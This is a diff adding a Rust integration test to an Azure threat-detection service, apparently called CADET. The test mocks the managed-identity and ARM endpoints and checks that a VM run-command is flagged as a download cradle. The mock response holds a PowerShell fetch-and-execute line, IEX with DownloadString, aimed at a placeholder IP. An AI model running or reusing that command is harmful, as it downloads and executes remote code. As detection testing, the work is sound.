@@ -417,3 +417,149 @@ async fn an_undelivered_finding_is_published_by_another_instance_on_redelivery()
         "{body}"
     );
 }
+
+/// The App Service identity endpoint and ARM, both on loopback: what each was asked.
+#[derive(Default)]
+struct Cloud {
+    token_requests: Mutex<Vec<String>>,
+    arm_requests: Mutex<Vec<String>>,
+}
+
+async fn identity(
+    State(c): State<Arc<Cloud>>,
+    uri: axum::http::Uri,
+    headers: HeaderMap,
+) -> axum::response::Response {
+    let secret = headers
+        .get("x-identity-header")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or("");
+    c.token_requests
+        .lock()
+        .unwrap_or_else(|p| p.into_inner())
+        .push(format!(
+            "{}?{} {secret}",
+            uri.path(),
+            uri.query().unwrap_or("")
+        ));
+    if secret != "identity-secret" {
+        return (StatusCode::UNAUTHORIZED, "bad identity header").into_response();
+    }
+    let expires = jiff_free_now() + 3600;
+    axum::Json(json!({
+        "access_token": "arm-token-1",
+        "expires_on": expires.to_string(),
+        "resource": "https://management.azure.com",
+        "token_type": "Bearer",
+        "client_id": "00000000-0000-0000-0000-000000000000"
+    }))
+    .into_response()
+}
+
+fn jiff_free_now() -> u64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or(0)
+}
+
+async fn arm_api(
+    State(c): State<Arc<Cloud>>,
+    uri: axum::http::Uri,
+    headers: HeaderMap,
+) -> axum::response::Response {
+    let auth = headers
+        .get("authorization")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or("")
+        .to_string();
+    c.arm_requests
+        .lock()
+        .unwrap_or_else(|p| p.into_inner())
+        .push(format!("{} {auth}", uri.path()));
+    if auth != "Bearer arm-token-1" {
+        return (StatusCode::UNAUTHORIZED, "{}").into_response();
+    }
+    if uri.path().ends_with("/runCommands/rc-hotfix") {
+        return (
+            StatusCode::OK,
+            r#"{"properties":{"source":{"script":"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"}}}"#,
+        )
+            .into_response();
+    }
+    (StatusCode::NOT_FOUND, "{}").into_response()
+}
+
+#[tokio::test]
+async fn binary_reads_the_managed_run_command_script_with_its_managed_identity() {
+    let cloud = Arc::new(Cloud::default());
+    let id_addr = serve_router(
+        axum::Router::new()
+            .route("/msi/token", axum::routing::get(identity))
+            .with_state(cloud.clone()),
+    )
+    .await;
+    let arm_addr = serve_router(
+        axum::Router::new()
+            .fallback(arm_api)
+            .with_state(cloud.clone()),
+    )
+    .await;
+    let receiver = Arc::new(Receiver::default());
+    let url = start_receiver(receiver.clone()).await;
+    let identity_endpoint = format!("http://{id_addr}/msi/token");
+    let arm_endpoint = format!("http://{arm_addr}");
+    let handler = start_handler(&[
+        ("CADET_STATE", "memory"),
+        ("CADET_SINKS", "webhook"),
+        ("CADET_WEBHOOK_URL", &url),
+        ("CADET_WEBHOOK_SECRET", SECRET),
+        ("CADET_ENRICH_ARM", "true"),
+        ("CADET_ARM_ENDPOINT", &arm_endpoint),
+        ("IDENTITY_ENDPOINT", &identity_endpoint),
+        ("IDENTITY_HEADER", "identity-secret"),
+    ]);
+    let write = sample("vm-managed-runcommand-write.json");
+    for (i, event) in [
+        with_id(write.clone(), "55555555-0000-4000-8000-000000000001"),
+        with_id(write, "55555555-0000-4000-8000-000000000002"),
+    ]
+    .iter()
+    .enumerate()
+    {
+        let (status, body) = post_json(
+            &format!("{}/detect", handler.base),
+            &[("x-azure-functions-invocationid", &format!("arm-{i}"))],
+            &host_payload(event, true),
+        )
+        .await;
+        assert_eq!(status, 200, "{body}");
+    }
+    let seen = receiver.seen.lock().unwrap_or_else(|p| p.into_inner());
+    assert!(!seen.is_empty(), "the enriched run command alerts");
+    let finding = &seen[0].1;
+    let text = finding["command_text"].as_str().unwrap_or("");
+    assert!(text.contains("DownloadString"), "{finding}");
+    let signals: Vec<&str> = finding["signals"]
+        .as_array()
+        .map(|a| a.iter().filter_map(|s| s["id"].as_str()).collect())
+        .unwrap_or_default();
+    assert!(signals.contains(&"download_cradle"), "{signals:?}");
+    let tokens = cloud
+        .token_requests
+        .lock()
+        .unwrap_or_else(|p| p.into_inner());
+    assert_eq!(
+        tokens.len(),
+        1,
+        "the token is cached between invocations: {tokens:?}"
+    );
+    assert!(tokens[0].contains("api-version=2019-08-01"), "{tokens:?}");
+    assert!(tokens[0].contains("resource=https"), "{tokens:?}");
+    let arm = cloud.arm_requests.lock().unwrap_or_else(|p| p.into_inner());
+    assert_eq!(arm.len(), 2, "{arm:?}");
+    assert!(
+        arm.iter().all(|r| r.ends_with("Bearer arm-token-1")),
+        "{arm:?}"
+    );
+}
